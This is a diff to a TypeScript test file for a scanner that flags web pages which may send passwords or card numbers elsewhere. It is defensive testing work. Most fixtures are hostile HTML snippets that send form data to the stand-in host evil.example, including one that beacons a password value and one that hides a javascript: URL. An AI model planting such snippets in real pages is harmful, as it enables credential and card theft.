@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { scanPage } from './scan-page.ts';
+import { suspicionOf } from './suspicion.ts';
 
 async function scan(html: string, chunkLength = 7) {
   async function* chunks() {
@@ -48,30 +49,40 @@ describe('scanPage', () => {
     ],
     ['a field that names its form', '<form id=f action=https://evil.example></form><input type=password form=f>'],
     ['a base that leads away', '<base href=https://evil.example/><form action=login><input type=password></form>'],
-    ['a password on a page with scripts', '<input type=password><script>send()</script>'],
-    ['a script with an outdated type', '<input type=password><script type=text/jscript>send()</script>'],
-    ['a link that is a script', '<input type=password><a href=" java&#10;script:send()">Go</a>'],
+    ['a script that sends elsewhere', '<input type=password><script>fetch("https://evil.example")</script>'],
+    [
+      'a script with an outdated type',
+      '<input type=password><script type=text/jscript>open("//evil.example")</script>',
+    ],
+    [
+      'a link that is a script',
+      '<input type=password><a href=" java&#10;script:location=\'https://evil.example\'">Go</a>',
+    ],
     [
       'a button outside its form',
       '<form id=f><input type=password></form><button form=f formaction=https://evil.example>Go</button>',
     ],
     ['an embedded page', '<iframe srcdoc="<form action=https://evil.example><input type=password></form>"></iframe>'],
     ['a form with a prefix, as in XML', '<h:form action="//evil.example"><h:input type="password"/></h:form>'],
-    ['a handler on the form', '<form onsubmit="send()"><input type=password></form>'],
+    [
+      'a handler on the form',
+      '<form onsubmit="navigator.sendBeacon(\'https://evil.example\', this.p.value)"><input type=password></form>',
+    ],
     ['a card number', '<form action=https://evil.example><input name=cardnumber></form>'],
     ['a card by autocomplete', '<form action=https://evil.example><input autocomplete="billing cc-number"></form>'],
   ])('suspects %s', async (_, html) => {
-    expect((await scan(html)).suspicious).toBe(true);
+    expect(suspicionOf([(await scan(html)).secrets])).toBeDefined();
   });
 
   it.each([
     ['a search form elsewhere', '<form action=https://duckduckgo.com/><input name=q></form>'],
     ['a password field without a target', '<form><input type=password></form>'],
     ['a script alone', '<script>draw()</script><input name=q>'],
+    ['a password beside a script that stays on the page', '<input type=password><script>measure()</script>'],
     ['data beside a password field', '<script type=application/ld+json>{}</script><input type=password>'],
     ['a business card', '<form action=https://x.example><input name=discard><input name=postcard></form>'],
   ])('does not suspect %s', async (_, html) => {
-    expect((await scan(html)).suspicious).toBe(false);
+    expect(suspicionOf([(await scan(html)).secrets])).toBeUndefined();
   });
 
   it.each([
